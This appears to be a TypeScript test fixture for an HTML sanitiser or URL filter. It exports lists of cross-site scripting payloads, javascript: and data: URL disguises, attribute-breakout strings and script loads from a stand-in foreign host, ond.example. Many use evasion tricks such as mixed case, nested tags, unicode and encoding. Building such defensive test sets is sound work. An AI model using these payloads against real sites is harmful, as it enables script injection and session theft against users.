/*
 * What somebody who wanted to run a script in a reader's or a colleague's browser would write. Each that ran would set
 * window.__xss, open a dialog or ask a foreign host for something.
 */

const FOREIGN = 'https://ond.example';
const RUN = 'window.__xss=1;alert(1)';

export const HOSTILE_TEXTS: readonly string[] = [
  // Elements that run.
  `<script>${RUN}</script>`,
  `<ScRiPt\u000c>${RUN}</sCrIpT >`,
  `<script src="${FOREIGN}/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">import "${FOREIGN}/x.js"</script>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${FOREIGN}/x.swf">`,
  `<link rel="stylesheet" href="${FOREIGN}/x.css">`,
  `<style>@import url("${FOREIGN}/x.css");</style>`,
  `<base href="${FOREIGN}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus>Skicka</button></form>`,
  // Events that come of themselves.
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}"/>`,
  `<img/src="x"/onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<div style="animation-name:x" onanimationstart="${RUN}"></div>`,
  // SVG and MathML.
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  // Out of an attribute.
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" style="background:url(${FOREIGN}/x.png)" x="`,
  // Out of an element whose text is no markup.
  `</script><script>${RUN}</script>`,
  `</script\u0020><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `]]><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  // Out of a string of data, and templates.
  `";${RUN};//`,
  `'-(${RUN})-'`,
  `\\"};${RUN};//`,
  `\u2028${RUN}\u2029`,
  '{{constructor.constructor("window.__xss=1")()}}',
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  // Tricks with characters: full width, without width, escaped once already, a byte order mark, written from right to left.
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u200bscript>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `<img src=x onerror=&#97;lert(1)>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
];

/** Addresses that run, or that lead away while looking as if they did not, in the disguises that browsers see through. */
export const UNSAFE_ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `javascript\t:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `javascript:/*--></script>*/${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  'blob:https://example.com/1',
  'file:///etc/passwd',
  'filesystem:https://example.com/x',
  'view-source:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  'livescript:alert(1)',
  'intent://x#Intent;scheme=javascript;end',
  '//ond.example/x',
  '/\\ond.example/x',
  '\\\\ond.example/x',
  '/\t/ond.example/x',
];

/** Addresses that may be kept, and would break out of an attribute that was not escaped. Their host is this site's own. */
export const SAFE_ADDRESSES: readonly string[] = [
  `/media/x.jpg" onerror="${RUN}" x="`,
  `/media/x.jpg' onerror='${RUN}' x='`,
  `/media/x.jpg"><img src=x onerror=${RUN}>`,
  `/media/x.jpg?a=javascript:${RUN}`,
  `/media/x.jpg#</script><script>${RUN}</script>`,
  `/media/x.jpg 1x, javascript:${RUN} 2x`,
  `/media/x.jpg');${RUN};//`,
];
